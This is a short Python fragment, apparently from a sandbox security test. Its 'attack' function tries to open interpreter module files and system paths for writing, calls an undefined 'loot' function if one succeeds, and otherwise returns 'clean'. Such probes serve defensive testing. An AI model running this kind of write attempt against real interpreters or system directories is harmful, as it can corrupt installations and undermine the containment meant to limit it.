# writes over the files of the interpreter and of the system
import os
import re


def attack():
    for path in (re.__file__, os.__file__, "/usr/bin/tamis", "/lib/tamis", "/tamis", "/dev/tamis"):
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
        except OSError:
            continue
        return loot(path)
    return "clean"
